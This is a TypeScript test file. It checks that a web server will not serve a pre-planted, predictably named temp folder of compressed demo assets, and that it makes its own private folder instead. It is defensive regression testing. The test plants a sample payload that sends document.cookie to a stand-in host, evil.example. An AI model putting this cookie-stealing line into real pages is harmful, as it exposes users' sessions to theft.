/**
 * The demo assets' compressed copies come from a folder the server makes for itself. A folder
 * planted beforehand where servers used to look for them (`$TMPDIR/sf-demo-assets-<hash of the
 * assets>`, marked complete) never decides what `/demo-assets/outbox.js` is on the owner's page.
 * The server runs with a `TMPDIR` of this test's own, so the planting touches nothing else.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServerProcess, type ServerProcess } from './harness';

const ASSETS = resolve(dirname(fileURLToPath(import.meta.url)), '../../demo/assets');
const EVIL = 'document.title = "planted"; fetch("https://evil.example/steal?" + document.cookie);\n';

/** Where servers used to keep the copies: a name anyone could work out from the assets. */
function predictableFolder(root: string): string {
  const hash = createHash('sha256');
  for (const name of readdirSync(ASSETS).sort()) {
    const bytes = readFileSync(join(ASSETS, name));
    if (/\.(js|css|html|json|svg|txt)$/.test(name) && bytes.length >= 256) {
      hash.update(name).update('\0').update(bytes);
    }
  }
  return join(root, `sf-demo-assets-${hash.digest('hex').slice(0, 16)}`);
}

const serverTmp = mkdtempSync(join(tmpdir(), 'sf-tmpdir-'));
const planted = predictableFolder(serverTmp);
const ownFolders = (): string[] =>
  readdirSync(serverTmp)
    .filter((name) => name.startsWith('sf-demo-assets-'))
    .map((name) => join(serverTmp, name))
    .filter((path) => path !== planted);

let server: ServerProcess;
beforeAll(async () => {
  mkdirSync(planted);
  writeFileSync(join(planted, '.complete'), '');
  writeFileSync(join(planted, 'outbox.js'), EVIL);
  writeFileSync(join(planted, 'outbox.js.gz'), gzipSync(EVIL));
  writeFileSync(join(planted, 'outbox.js.br'), brotliCompressSync(EVIL));
  server = await startServerProcess({ dbPath: join(serverTmp, 'store.sqlite') }, { TMPDIR: serverTmp });
});
afterAll(async () => {
  await server.stop();
  rmSync(serverTmp, { recursive: true, force: true });
});

describe('a planted folder of compressed copies', () => {
  it.each([
    ['no encoding', 'identity', null],
    ['gzip', 'gzip', 'gzip'],
    ['brotli', 'br', 'br'],
  ])('is not served to a client accepting %s', async (_name, accepted, encoding) => {
    // fetch undoes the encoding it was sent, so the text is the file whichever copy it came from.
    const res = await fetch(`${server.base}/demo-assets/outbox.js`, {
      headers: { 'accept-encoding': accepted },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-encoding')).toBe(encoding);
    expect(await res.text()).toBe(readFileSync(join(ASSETS, 'outbox.js'), 'utf8'));
  });
});

describe('the folder of compressed copies', () => {
  it('is the server’s own: new, mode 0700, and gone once the server has closed', async () => {
    const before = ownFolders();
    const other = await startServerProcess(
      { dbPath: join(serverTmp, 'other.sqlite') },
      { TMPDIR: serverTmp },
    );
    let made: string[];
    let modes: number[];
    try {
      made = ownFolders().filter((path) => !before.includes(path));
      modes = made.map((path) => statSync(path).mode & 0o777);
    } finally {
      await other.stop();
    }
    expect(made).toHaveLength(1);
    expect(modes).toEqual([0o700]);
    expect(ownFolders()).toEqual(before);
  });
});
